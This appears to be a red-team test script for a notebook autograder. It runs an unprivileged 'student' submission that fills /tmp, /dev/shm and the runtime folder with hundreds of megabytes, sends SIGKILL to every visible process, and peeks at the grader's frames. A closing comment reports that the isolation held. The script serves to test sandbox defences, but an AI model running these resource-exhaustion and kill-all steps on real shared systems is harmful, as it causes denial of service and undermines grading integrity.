"""a03 (ORDINARY USER, uid 65534): a01's frame-peek and naive students, plus "rt", which writes into the
runtime folder (JUPYTER_RUNTIME_DIR, sealed read-only since round 3), fills /tmp, /dev/shm and its folder,
and sends SIGKILL to every process it can see (kill -1) from the observer's child, graded by the
ordinary-user clone $ATTACK_USER_CLONE (one submission at a time, no cgroups).
Run as root (it drops to 65534 for the grader): the checkout's .venv/bin/python a03_user_frame_peek_and_runtime.py
"""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.dirname(__import__("os").path.abspath(__file__))))
from attack_course import *
from a01_frame_peek_drawn_cases import peek, naive

RT = r'''
import os, signal
def _rt():
    out = []
    rd = os.environ.get("JUPYTER_RUNTIME_DIR")
    if rd:
        try:
            with open(os.path.join(rd, "r4-fill"), "wb") as f:
                f.write(b"x" * (8 << 20))
            out.append("runtime-write-OK " + str(os.path.getsize(os.path.join(rd, "r4-fill"))))
        except Exception as e:
            out.append("runtime!" + type(e).__name__)
    for d in ("/tmp", "/dev/shm", os.getcwd()):
        n = 0
        try:
            with open(os.path.join(d, "r4-big"), "wb") as f:
                for _ in range(600):
                    f.write(b"y" * (1 << 20)); n += 1
        except Exception as e:
            out.append(f"{d}!{type(e).__name__} after {n} MiB")
        else:
            out.append(f"{d} took {n} MiB")
    return "; ".join(out)
print("KERNEL", _rt())
'''

rt = notebook(overrides={
    "training_memory": RT + "\ndef training_memory(model, optimizer):\n    r = _rt()\n    os.kill(-1, signal.SIGKILL)\n    raise RuntimeError('CHILD ' + r)\n",
})

if __name__ == "__main__":
    dest = make_course("03u", {"peek": peek, "naive": naive, "rt": rt}, owner=65534)
    os.makedirs("/tmp/attack-round4-home", exist_ok=True); os.chown("/tmp/attack-round4-home", 65534, 65534)
    grade(dest, python=__import__("os").environ["ATTACK_USER_CLONE"] + "/.venv/bin/python", cwd=__import__("os").environ["ATTACK_USER_CLONE"],
          prefix=("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "HOME=/tmp/attack-round4-home"))
    show(dest)
    outputs(dest, "rt")

# RESULT (ORDINARY USER uid 65534 via setpriv, $ATTACK_USER_CLONE, 222 s): a01 BROKEN here too:
# peek 2/30 (both bad-input cells), naive 0/30. rt 0/30: runtime folder write refused (OSError, read-only),
# /tmp, /dev/shm and its folder stop at 511-512 MiB, kill(-1, SIGKILL) from the observer's child only killed
# its own observer ("the process that ran the hidden check died"), later students graded normally (HELD).
